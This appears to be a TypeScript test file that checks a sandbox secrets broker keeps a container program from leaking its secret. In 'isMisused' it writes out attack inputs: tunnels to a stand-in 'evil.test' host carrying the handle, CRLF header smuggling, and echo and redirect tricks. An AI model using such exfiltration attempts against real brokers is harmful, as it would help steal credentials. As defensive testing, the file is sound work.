import tap, { type Test, test } from "tap";
import type { NetPermission } from "../../manifests/permissions.ts";
import type { GrantedSecret, SecretDestination, SecretProvider } from "../../manifests/secret.ts";
import type { SandboxResult } from "../../sandbox/sandbox.ts";
import type { Net } from "./broker-fetch-fixtures.ts";
import { canary } from "./broker-secrets-fixtures.ts";
import { titleOf } from "./catalogue.ts";
import {
  attacking,
  codesIn,
  type Egress,
  fromInside,
  type Heard,
  mark,
  type ShellInput,
  stdoutOf,
  written,
} from "./container-egress-fixtures.ts";
import { type Asked, credentialLine, plain, statusOf } from "./proxy-fixtures.ts";
import {
  broken,
  granted,
  header,
  misused,
  reflections,
  saysCanary,
} from "./proxy-secrets-attacks.ts";
import { connectLines } from "./proxy-tunnel-fixtures.ts";

tap.setTimeout(110_000);

// Ring 8, the broker, asked by a program in a container that holds a secret's handle.

/** In the place of the handle, and as long. */
const handle = `secret-${"inplaceofthehandle".repeat(3).slice(0, 40)}`;

/** A program that asks for its secret first. */
const holding = (program: string): ShellInput =>
  attacking(`
name = b'{"name":"key"}'
lines = asking("/host/secret", f"Content-Length: {len(name)}", method="POST")
handle = json.loads(answer_to(connect("socket"), lines + name).partition(b"\\r\\n\\r\\n")[2]).encode()
${program}`);

const says = holding(`
marks = [(b"${mark}", CREDENTIAL), (b"${handle}", handle)]
print(json.dumps(make(json.load(sys.stdin), marks)))`);

const saysInChunks = (url: string): ShellInput =>
  holding(`
body = b'{"token":"%s"}' % handle
parts = [body[at : at + 7] for at in range(0, len(body), 7)]
chunks = b"".join(b"%x\\r\\n%s\\r\\n" % (len(part), part) for part in parts)
head = asking("${url}", "Transfer-Encoding: chunked", "Connection: close", method="POST")
print(status_of(answer_to(connect("port"), head + chunks + b"0\\r\\n\\r\\n")))`);

/** What came to the server, whole; and how often the value of the secret was read. */
const came: string[] = [];
const read: string[] = [];
const bound = new Map<string, GrantedSecret>();
const bindingOf = ({ to, place }: GrantedSecret): object => ({
  ...{ tools: ["test.tool"], principals: ["agent"], to, place },
});
const secrets = {
  binding: () => Promise.resolve(undefined),
  read: (name: string) => {
    read.push(name);
    const secret = bound.get(name);
    return Promise.resolve(secret && { binding: bindingOf(secret), value: canary });
  },
} as SecretProvider;

const replies = Object.values(reflections);
const hosts = { "tool.test": "127.0.0.1", "other.test": "127.0.0.1", "far.test": "10.0.0.1" };

interface Holding {
  readonly result: SandboxResult;
  readonly heard: readonly Pick<Heard, "heard">[];
  /** Of the call; where it has answered, those that its program was told. */
  readonly codes: readonly string[];
}

interface Held {
  readonly asked: readonly (Asked | string)[];
  readonly secret?: Partial<GrantedSecret>;
}

/** One call that holds a handle; what it says first goes to the socket, what comes next to the port. */
async function hold(t: Test, egress: Egress, { asked, secret = {} }: Held): Promise<Holding> {
  const doors = ["socket", "port"] as const;
  const attacks = asked.map((one, at) => ({
    ...{ name: "", to: doors[at % 2] ?? "socket" },
    says: typeof one === "string" ? one : bytesOf(one),
  }));
  const input = { ...says, stdin: JSON.stringify(attacks.map(written)) };
  const result = await call(egress, input, secret);
  t.notOk(saysCanary(result), "its value is nowhere");
  if (result.kind === "failed") return { result, heard: [], codes: [result.code] };
  const heard = JSON.parse(stdoutOf(t, result)) as readonly Pick<Heard, "heard">[];
  t.notOk(saysCanary(heard), "not in what a server said either");
  return { result, heard, codes: heard.flatMap(codesIn) };
}

function call(
  { run, origin }: Egress,
  input: ShellInput,
  secret: Partial<GrantedSecret>,
): Promise<SandboxResult> {
  const given = { name: "key", place: header, to: toOf(origin), ...secret };
  bound.set("key", given);
  came.length = 0;
  read.length = 0;
  const far: NetPermission = plain(origin.port, { host: "far.test", addresses: ["10.0.0.0/8"] });
  const net = [plain(origin.port), plain(origin.port, { host: "other.test" }), far];
  return run(input, { permissions: { net, fs: [] }, secrets: [given] });
}

/** Of a secret that is bound to the whole server. */
function toOf({ port }: Pick<Net, "port">): SecretDestination {
  const { addresses: _, ...to } = plain(port);
  return to;
}

function bytesOf({ target, method = "GET", headers = {}, body = "" }: Asked): Buffer {
  const host = URL.parse(target)?.host ?? "ringward";
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
  const length = body.length > 0 ? [`Content-Length: ${body.length}`] : [];
  const first = [
    `${method} ${target} HTTP/1.1`,
    `Host: ${host}`,
    credentialLine({ credential: mark }),
  ];
  const head = [...first, ...lines, ...length, "", ""].join("\r\n");
  return Buffer.concat([Buffer.from(head), Buffer.from(body)]);
}

fromInside(
  (name, run) => test(`secrets in their place ${name}`, run),
  {
    broker: { secrets, hosts },
    listener: (request, response) => {
      const chunks: Buffer[] = [];
      request.on("data", (chunk: Buffer) => chunks.push(chunk));
      request.on("end", () => {
        came.push(`${request.url} ${JSON.stringify(request.headers)} ${Buffer.concat(chunks)}`);
        const at = /^\/reply\/(\d+)$/.exec(request.url ?? "")?.[1];
        if (at === undefined) response.end("ok");
        else if (Number(at) < replies.length) void replies[Number(at)]?.(response, request);
        else response.writeHead(302, { location: `/?${encodeURIComponent(canary)}` }).end();
      });
    },
  },
  async (t, egress) => {
    await arrives(t, egress);
    await isMisused(t, egress);
    await isBroken(t, egress);
    await isSaidBack(t, egress);
  },
);

async function arrives(t: Test, egress: Egress): Promise<void> {
  for (const [name, [place, asked, seen]] of Object.entries(granted)) {
    const { result, heard } = await hold(t, egress, {
      asked: [asked({ at: egress.origin, handle })],
      secret: { place },
    });
    t.equal(statusOf(heard[0]?.heard ?? ""), "200", titleOf("N21"));
    t.ok(came[0]?.includes(seen), `${name}: it arrives: ${came[0]}`);
    t.match(result.requests.at(-1), { secrets: ["key"], address: "127.0.0.1" });
  }
}

async function isMisused(t: Test, egress: Egress): Promise<void> {
  const { origin } = egress;
  const to: SecretDestination = { ...toOf(origin), methods: ["GET"], path: "/v1" };
  const tunnels = [`${handle}.evil.test:443`, `tool.test:443\r\nX-A: ${handle}`].map((host) =>
    connectLines({ credential: mark }, host.split("\r\n")[0] ?? "", host),
  );
  const attacks = Object.entries(misused).map(([, asked]) => asked({ at: origin, handle }));
  for (const attack of [...attacks, ...tunnels]) {
    const asked = [attack, { target: `${origin.url}/v1` }];
    const { codes } = await hold(t, egress, { asked, secret: { to } });
    t.strictSame(codes, ["SECRET_MISUSED"], "nothing that such a call says is believed");
    t.strictSame([came, read], [[], []], "and it is served no more");
  }
  const far = { ...toOf(origin), host: "far.test" };
  const target = origin.url.replace("tool.test", "far.test");
  const asked = { target, headers: { authorization: handle } };
  const { codes } = await hold(t, egress, { asked: [asked], secret: { to: far } });
  t.strictSame([codes, read], [["EGRESS_DENIED"], []], "in the clear it leaves to nobody else");
}

async function isBroken(t: Test, egress: Egress): Promise<void> {
  const { url } = egress.origin;
  const place = { json: "/token" };
  for (const [name, [body, type, code]] of Object.entries(broken)) {
    const headers = { "content-type": type };
    const asked = { target: url, method: "POST", headers, body: body(handle) };
    const { codes } = await hold(t, egress, { asked: [asked], secret: { place } });
    t.strictSame([codes, came, read], [[code], [], []], `${titleOf("N23")}: ${name}`);
  }
  t.equal(stdoutOf(t, await call(egress, saysInChunks(url), { place })), "200\n");
  t.ok(
    came[0]?.includes(`{"token":${JSON.stringify(canary)}}`),
    "in chunks of some bytes it is whole",
  );
}

async function isSaidBack(t: Test, egress: Egress): Promise<void> {
  const { url } = egress.origin;
  const headers = { authorization: handle };
  const echoes = replies.map((_, at) => ({ target: `${url}/reply/${at}`, headers }));
  const { heard } = await hold(t, egress, { asked: [...echoes, { target: url }] });
  t.equal(came.length, replies.length + 1);
  for (const [at, name] of Object.keys(reflections).entries()) {
    t.ok(came[at]?.includes(JSON.stringify(`Bearer ${canary}`)), `${name}: it was sent`);
    if (!name.startsWith("the reason")) {
      t.match(heard[at]?.heard, "[redacted:key]", `${titleOf("N22")}: ${name}`);
    }
  }
  const moved = { target: `${url}/reply/${replies.length}`, headers };
  const part = { target: url, headers: { ...headers, range: "bytes=0-3" } };
  const { codes } = await hold(t, egress, {
    asked: [moved, { target: url, method: "TRACE" }, part],
  });
  t.strictSame(codes, ["EGRESS_DENIED", "EGRESS_DENIED", "EGRESS_DENIED"]);
  t.equal(came.length, 1);
}
